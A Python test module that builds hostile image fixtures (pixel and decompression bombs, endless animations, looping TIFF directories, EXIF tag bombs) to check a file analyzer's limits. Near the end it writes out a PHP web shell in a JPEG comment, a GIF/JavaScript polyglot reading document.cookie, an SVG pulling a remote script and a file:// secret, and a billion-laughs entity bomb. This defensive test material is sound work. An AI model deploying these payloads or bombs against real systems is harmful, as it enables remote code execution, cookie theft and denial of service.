"""Hostile pictures: too many pixels, frames or tags, headers that lie, and files of two kinds."""

import io
import struct
import zlib
from functools import partial

from PIL import Image

from tests.analyzers.files import chunk, encoded, jpeg_header, lettered, png
from tests.hostile.case import (
    CORRUPT,
    LIMIT,
    READ,
    UNSUPPORTED,
    Bait,
    Case,
    always,
)

SIGNATURE = b"\x89PNG\r\n\x1a\n"


def _photo(form: str = "JPEG", **options: object) -> bytes:
    return encoded(lettered((200, 100), [(10, 30, 30, "Harbour")]), form, **options)


def _half(form: str) -> bytes:
    data = _photo(form)
    return data[: len(data) // 2]


def _png_text_bomb(kind: bytes, size: int = 64 << 20) -> bytes:
    packed = zlib.compress(bytes(size), 9)
    return png(64, 64, chunk(kind, b"name\0\0" + packed))


def _gif(frames: int, *, trailer: bool = True) -> bytes:
    """Return a GIF of pictures of one pixel."""
    head = b"GIF89a" + struct.pack("<HHBBB", 8, 8, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    one = b"\x21\xf9\x04\0\x01\0\0\0" + b"\x2c\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02\x44\x01\0"
    return head + one * frames + (b"\x3b" if trailer else b"")


def _gif_without_end() -> bytes:
    """Return a GIF whose data goes on and on without the code that ends it."""
    head = b"GIF89a" + struct.pack("<HHBBB", 2000, 2000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    place = b"\x2c" + struct.pack("<HHHHB", 0, 0, 2000, 2000, 0) + b"\x02"
    return head + place + (b"\xff" + b"\x92" * 255) * 8000


def _apng(frames: int) -> bytes:
    return png(8, 8, chunk(b"acTL", struct.pack(">II", frames, 0)))


def _webp(frames: int) -> bytes:
    """Return an animation that shows its second frame again and again."""
    red, blue = Image.new("RGB", (8, 8), "red"), Image.new("RGB", (8, 8), "blue")
    data = encoded(red, "WEBP", save_all=True, append_images=[blue, red], duration=10)
    parts, at = [], 12
    while at < len(data):
        size = int.from_bytes(data[at + 4 : at + 8], "little")
        parts.append(data[at : at + 8 + size + size % 2])
        at += 8 + size + size % 2
    shown = [part for part in parts if part.startswith(b"ANMF")]
    body = b"".join(part for part in parts if not part.startswith(b"ANMF")) + shown[1] * frames
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _tiff(ifds: int, *, loop: bool = False, strip: int = 1) -> bytes:
    """Return a TIFF with many directories of one gray pixel each, or one that leads back."""
    tags = ((256, 1), (257, 1), (258, 8), (259, 1), (262, 1), (273, 8), (278, 1), (279, strip))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    size = 2 + len(entries) + 4
    out = [b"II*\0" + struct.pack("<I", 12) + b"\x7f\0\0\0"]
    for number in range(ifds):
        last = number == ifds - 1
        following = (12 if loop else 0) if last else 12 + (number + 1) * size
        out.append(struct.pack("<H", len(tags)) + entries + struct.pack("<I", following))
    return b"".join(out)


def _exif_bomb() -> bytes:
    """Return a JPEG whose tags claim four billion values, and lead back to themselves."""
    entries = b"".join(
        struct.pack("<HHII", tag, kind, 0xFFFFFFFF, 8)
        for tag, kind in ((0x010F, 2), (0x0112, 3), (0x9003, 2), (0x927C, 7), (0x0111, 12))
    )
    entries += struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x8825, 4, 1, 8)
    body = b"Exif\0\0II*\0" + struct.pack("<IH", 8, 7) + entries + struct.pack("<I", 8)
    return _with_segment(_photo(), b"\xff\xe1", body)


def _with_segment(jpeg: bytes, marker: bytes, body: bytes) -> bytes:
    return jpeg[:2] + marker + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def _odd_jpeg() -> bytes:
    """Return a CMYK picture with a broken profile that stands on its ninth corner."""
    exif = Image.Exif()
    exif[0x0112] = 9
    image = Image.new("CMYK", (64, 64), (10, 200, 30, 0))
    return encoded(image, "JPEG", icc_profile=b"no profile" * 20, exif=exif)


def _deep_png() -> bytes:
    return encoded(Image.effect_noise((64, 64), 90).convert("I;16"), "PNG")


def _header_only(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        SIGNATURE
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def _fits() -> bytes:
    """Return a FITS whose picture is packed with gzip: one of Pillow's plugins unfolded it."""
    cards = ["SIMPLE  =                    T", "BITPIX  =                    8"]
    cards += ["NAXIS   =                    0", "ZCMPTYPE= 'GZIP_1  '", "END"]
    head = b"".join(card.ljust(80).encode() for card in cards).ljust(2880)
    return head + b"\x1f\x8b\x08\0" + zlib.compress(bytes(1 << 20))


def _jpeg_2000() -> bytes:
    return b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 " + bytes(200)


def _heic() -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x20meta" + b"\xff" * 400


def _two_kinds(head: bytes) -> bytes:
    """Return a picture that is also an archive."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    return head + out.getvalue()


def _svg(bait: Bait) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg"><script href="{bait.url}/svg.js"/>'
        f'<image href="{bait.url}/svg.png"/><image href="file://{bait.secret}"/></svg>'
    ).encode()


def _laughing_svg() -> bytes:
    entities = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a0 "ha">{entities}]>'
        "<svg xmlns='http://www.w3.org/2000/svg'><text>&a12;</text></svg>"
    ).encode()


def _script_in_gif() -> bytes:
    return b"GIF89a/*" + _gif(1)[8:] + b"*/=1;alert(document.cookie)//"


CASES = (
    Case("M1", "144 million pixels in 18 kB", "png", always(lambda: png(12_000, 12_000)),
         (LIMIT,), "pixels"),
    Case("M2", "400 million pixels", "png", always(lambda: png(20_000, 20_000)),
         (LIMIT,), "pixels"),
    Case("M2", "a head of 65500 by 65500", "jpg", always(lambda: jpeg_header(65_500, 65_500)),
         (LIMIT,), "pixels"),
    Case("M2", "a head of 4 billion by 4 billion", "png",
         always(lambda: _header_only((1 << 32) - 1, (1 << 32) - 1)), (LIMIT, CORRUPT)),
    Case("M3", "a FITS packed with gzip", "fits", always(_fits), (UNSUPPORTED,)),
    Case("M4", "a text chunk that unfolds to 64 MiB", "png",
         always(lambda: _png_text_bomb(b"zTXt")), (LIMIT, CORRUPT, READ)),
    Case("M4", "a colour profile that unfolds to 64 MiB", "png",
         always(lambda: _png_text_bomb(b"iCCP")), (LIMIT, CORRUPT, READ)),
    Case("M5", "an animation of 100000 frames", "gif", always(lambda: _gif(100_000)),
         (LIMIT,), "frames"),
    Case("M5", "an animation that claims 4 billion frames", "png",
         always(lambda: _apng((1 << 31) - 1)), (LIMIT,), "frames"),
    Case("M5", "an animation of 5000 frames", "webp", always(lambda: _webp(5_000)),
         (LIMIT,), "frames"),
    Case("M5", "data without an end", "gif", always(_gif_without_end), (READ, CORRUPT)),
    Case("M5", "an animation without a trailer", "gif",
         always(lambda: _gif(3, trailer=False)), (READ, CORRUPT)),
    *(
        Case("M6", f"cut in half, {form}", form.lower(),
             always(partial(_half, form)), (CORRUPT,))
        for form in ("JPEG", "PNG", "WEBP", "AVIF")
    ),
    Case("M7", "CMYK with a broken profile on its ninth corner", "jpg", always(_odd_jpeg), (READ,)),
    Case("M7", "sixteen bits a sample", "png", always(_deep_png), (READ,)),
    Case("M8", "10000 directories", "tif", always(lambda: _tiff(10_000)), (LIMIT,), "frames"),
    Case("M8", "directories in a ring", "tif", always(lambda: _tiff(3, loop=True)),
         (LIMIT, CORRUPT, READ)),
    Case("M8", "a strip of 4 GB", "tif", always(lambda: _tiff(1, strip=(1 << 32) - 1)),
         (CORRUPT, READ, LIMIT)),
    Case("M9", "JPEG 2000", "jp2", always(_jpeg_2000), (UNSUPPORTED,)),
    Case("M9", "a HEIC without a picture", "heic", always(_heic), (CORRUPT, UNSUPPORTED)),
    Case("M10", "no pixel wide", "png", always(lambda: png(0, 100)), (CORRUPT,)),
    Case("M10", "one pixel", "png", always(lambda: png(1, 1)), (READ,)),
    Case("M10", "one pixel wide and 65535 high", "png", always(lambda: png(1, 65_535)), (READ,)),
    Case("M7", "tags of 4 billion values in a ring", "jpg", always(_exif_bomb), (READ, CORRUPT)),
    Case("U9", "a script in a GIF", "gif", always(_script_in_gif), (READ, CORRUPT)),
    Case("U9", "an archive behind a JPEG", "jpg", always(lambda: _two_kinds(_photo())), (READ,)),
    Case("U9", "PHP in a JPEG", "php", always(
        lambda: _with_segment(_photo(), b"\xff\xfe", b"<?php system($_GET['c']); ?>")), (READ,)),
    Case("U10", "SVG with a script and pictures from elsewhere", "svg", _svg, (UNSUPPORTED,)),
    Case("M33", "SVG that laughs a billion times", "svg", always(_laughing_svg), (UNSUPPORTED,)),
)  # fmt: skip
